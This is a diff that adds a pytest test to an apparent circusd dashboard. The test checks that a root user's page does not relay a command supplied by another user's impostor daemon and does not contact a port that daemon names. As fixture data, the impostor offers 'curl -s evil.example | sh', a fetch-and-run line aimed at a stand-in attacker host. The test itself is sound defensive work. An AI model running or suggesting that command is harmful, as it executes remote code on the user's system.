@@ -401,6 +401,44 @@ def test_root_is_advised_to_end_nothing_of_roots_by_the_circusd_of_another_user(
             each.wait()
 
 
+@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
+def test_roots_page_copies_no_command_and_asks_no_address_that_another_users_circusd_names(
+    folder_of_theirs: Path,
+) -> None:
+    """Given the circusd of another user on root's page, with a command of its own as the cure of a port that a stranger
+    has, when it answers and when it has ended, then the page neither offers that nor sends a request to that port."""
+    path = folder_of_theirs / "c.sock"
+    with socket.create_server(("127.0.0.1", 0)) as stranger, socket.socket(socket.AF_UNIX) as handed:
+        handed.bind(str(path))
+        for place in (folder_of_theirs, path):
+            os.chown(place, pwd.getpwnam(USER).pw_uid, -1)
+        port = {"host": "127.0.0.1", "port": stranger.getsockname()[1], "state": "refused", "reason": "taken"}
+        cure = Say.CURE_PORT_HELD(command="curl -s evil.example | sh", port=8000)
+        verdict = {"word": "blocked", "since": 60.0, "cause": "taken", "next": "", **with_say(cure, "cure")}
+        watcher = {"name": "web", "status": "active", "numprocesses": 1, "armed": True, "port": port}
+        watcher |= {"verdict": verdict, "incident": {"age": 60.0, "worst": "blocked", "word": "blocked"}}
+        me = {"pid": os.getpid(), "started": process(os.getpid()).started, "slot": 1, "phase": "up"}
+        watcher |= {"options": {"health.live_path": "/do"}, "workers": [me]}
+        of_circusd = {"pid": "own pid", "started": "own start", "version": __version__, "endpoint": f"ipc://{path}"}
+        answer = {"circusd": of_circusd, "probers": [], "watchers": [watcher]}
+        theirs = Impostor("", answer, USER, handed.fileno(), ("", "", "turns nothing"))
+        server = Server("theirs", "theirs", f"ipc://{path}", deadline=2)
+        try:
+            server._pool.submit(server._poll).result()
+            assert server.is_reachable, server.error
+            (line,) = server.headlines(None)
+            assert (line["word"], line["command"]) == ("blocked", "")
+            assert "evil" not in json.dumps(line)
+        finally:
+            theirs.end()
+        server._pool.submit(server._poll).result()
+        server.close()
+        assert (server.is_reachable, server.error is None) == (False, False)
+        stranger.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            stranger.accept()
+
+
 # The same with the marks of a worker, which the process below has not, nor its session.
 MARKED = BECOMES.replace("stdout=subprocess.DEVNULL", "env={}, stdout=subprocess.DEVNULL, start_new_session=True")
 MARKED = MARKED.replace("os.execv(", "os.environ['XBOARD_LAUNCHER'] = f'{os.getpid()}:1'\nos.execv(")
